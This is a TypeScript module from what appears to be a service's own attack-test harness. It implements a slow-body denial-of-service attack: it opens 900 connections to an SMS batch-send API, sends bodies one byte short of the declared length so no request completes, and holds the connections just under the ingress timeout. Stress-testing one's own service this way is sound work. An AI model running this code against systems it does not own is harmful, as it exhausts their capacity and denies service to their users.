import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import type { Attack } from '../attack.js';

/** Less than the ingress waits for a whole request (REQUEST_MS). */
const ROUND_MS = 12_000;

export const attack: Attack = {
  summary: 'Holds bodies without credentials that never end. Options: connections=900, bytes=1048575 of each.',
  run: async ({ api, seconds, option }) => {
    const { hostname, port } = new URL(api);
    const [count, bytes] = [Number(option('connections', '900')), Number(option('bytes', '1048575'))];
    const body = Buffer.alloc(bytes, 32);
    const head = `POST /api/sms/v1/sendsms/batch HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes + 1}\r\n\r\n`;
    const seen = new Map<string, number>();
    const hold = async (): Promise<Socket> => {
      const socket = connect(Number(port), hostname);
      const outcome = (what: string): void => void seen.set(what, (seen.get(what) ?? 0) + 1);
      socket.on('error', () => undefined);
      socket.once('data', (data: Buffer) => outcome(data.toString('latin1').slice(9, 12)));
      socket.once('close', (broken) => outcome(broken ? 'closed with an error' : 'closed'));
      await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
      socket.write(head);
      socket.write(body);
      return socket;
    };
    const until = performance.now() + seconds * 1000;
    while (performance.now() < until) {
      const sockets = await Promise.all(Array.from({ length: count }, hold));
      await setTimeout(Math.min(ROUND_MS, Math.max(0, until - performance.now())));
      sockets.forEach((socket) => socket.destroy());
    }
    return [...seen].map(([what, times]) => `${what}: ${times}`);
  },
};
